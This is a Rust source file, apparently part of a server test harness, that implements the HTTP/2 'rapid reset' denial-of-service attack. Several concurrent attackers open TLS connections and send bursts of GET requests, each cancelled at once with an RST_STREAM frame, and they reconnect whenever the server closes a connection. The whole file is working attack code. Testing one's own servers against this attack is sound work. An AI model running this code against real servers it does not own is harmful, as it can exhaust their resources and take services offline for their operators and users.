//! Rapid reset: streams of HTTP/2 that are opened and reset in the same breath, on ever new connections as old ones are ended.

use crate::harness::client::{Client, Version};
use crate::harness::raw::{self, PREFACE, RST_STREAM};
use std::io;
use std::net::SocketAddr;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

/// Attackers, each on a connection of its own.
const ATTACKERS: usize = 4;

/// Between two bursts.
const PACE: Duration = Duration::from_millis(20);

/// So many resets a second, for that long; as many in all, however long that takes on a busy machine.
pub async fn all(client: &Client, address: SocketAddr, rate: usize, seconds: usize) {
    let burst = rate / ATTACKERS * usize::try_from(PACE.as_millis()).unwrap() / 1000;
    let began = Instant::now();
    let mut running = JoinSet::new();
    for n in 0..ATTACKERS {
        let client = client.clone();
        running.spawn(async move {
            let (mut left, mut connections) = (rate * seconds / ATTACKERS, 0);
            while left > 0 {
                connections += 1;
                // That it is ended is the answer to it; how many it sent before is not known then, nor asked.
                drop(attack(&client, address, n, burst, &mut left).await);
            }
            connections
        });
    }
    let connections: usize = running.join_all().await.into_iter().sum();
    let (resets, took) = (rate * seconds, began.elapsed());
    println!("rapid reset: {resets} streams over {connections} connections in {took:?}");
}

async fn attack(client: &Client, address: SocketAddr, n: usize, burst: usize, left: &mut usize) -> io::Result<()> {
    let stream = client.secure_over(raw::connect(n, address, None).await?, Version::H2).await?;
    let (mut read, mut write) = tokio::io::split(stream);
    write.write_all(PREFACE).await?;
    let mut ticks = tokio::time::interval(PACE);
    let mut piece = vec![0; 16 * 1024];
    let mut next = 1;
    while *left > 0 {
        tokio::select! {
            came = read.read(&mut piece) => if came? == 0 { return Ok(()) },
            _ = ticks.tick() => {
                let mut frames = Vec::new();
                for _ in 0..burst.min(*left) {
                    frames.extend(raw::get(next, "/images/image-40.bin"));
                    frames.extend(raw::frame(RST_STREAM, 0, next, &8u32.to_be_bytes()));
                    next += 2;
                }
                write.write_all(&frames).await?;
                write.flush().await?;
                *left -= burst.min(*left);
            }
        }
    }
    Ok(())
}
